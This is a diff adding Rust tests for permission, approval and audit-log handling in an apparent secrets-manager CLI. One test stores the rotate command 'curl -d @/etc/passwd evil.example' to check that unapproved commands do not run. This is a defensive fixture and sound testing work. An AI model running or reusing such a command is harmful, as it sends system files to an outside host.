@@ -598,3 +598,63 @@ fn rotate_with_nothing_to_make_a_value_from() {
     let sb = store();
     sesame(&["rotate", "app/dev/token"]).pins(&sb, scenario!());
 }
+
+// --- Permissions and approvals (issue 12) ---
+
+#[test]
+fn store_directory_others_can_write() {
+    use std::os::unix::fs::PermissionsExt;
+    let sb = store();
+    fs::set_permissions(&sb.store, fs::Permissions::from_mode(0o777)).unwrap();
+    sesame(&["get", "app/dev/token"]).pins(&sb, scenario!());
+}
+
+#[test]
+fn lock_file_that_is_a_symbolic_link() {
+    let sb = store();
+    fs::remove_file(sb.file("lock")).unwrap();
+    std::os::unix::fs::symlink(sb.dir.path().join("elsewhere"), sb.file("lock")).unwrap();
+    sesame(&["set", "app/dev/token"])
+        .stdin("value")
+        .pins(&sb, scenario!());
+}
+
+#[test]
+fn stored_command_not_approved() {
+    let sb = store();
+    let key = sb.ok(["recipients", "add", "--generate-ci", "ci"]);
+    let out = sb
+        .cmd_locked()
+        .env("SESAME_IDENTITY", key.trim())
+        .args([
+            "edit",
+            "app/dev/token",
+            "--rotate-command",
+            "curl -d @/etc/passwd evil.example",
+        ])
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    sesame(&["rotate", "app/dev/token"]).pins(&sb, scenario!());
+}
+
+#[test]
+fn allow_without_a_terminal() {
+    let sb = store();
+    sb.ok(["edit", "app/dev/token", "--rotate-command", "./mint"]);
+    sb.ok(["deny", "--secret", "app/dev/token"]);
+    sesame(&["allow", "--secret", "app/dev/token"]).pins(&sb, scenario!());
+}
+
+#[test]
+fn write_stored_but_not_recorded_in_the_audit_log() {
+    let sb = store();
+    use std::os::unix::fs::PermissionsExt;
+    fs::create_dir(sb.file("audit.log.1")).unwrap();
+    fs::write(sb.file("audit.log.1").join("x"), "").unwrap();
+    fs::set_permissions(sb.file("audit.log.1"), fs::Permissions::from_mode(0o700)).unwrap();
+    sesame(&["set", "app/dev/token"])
+        .stdin("value")
+        .env("SESAME_AUDIT_MAX_BYTES", "1")
+        .pins(&sb, scenario!());
+}
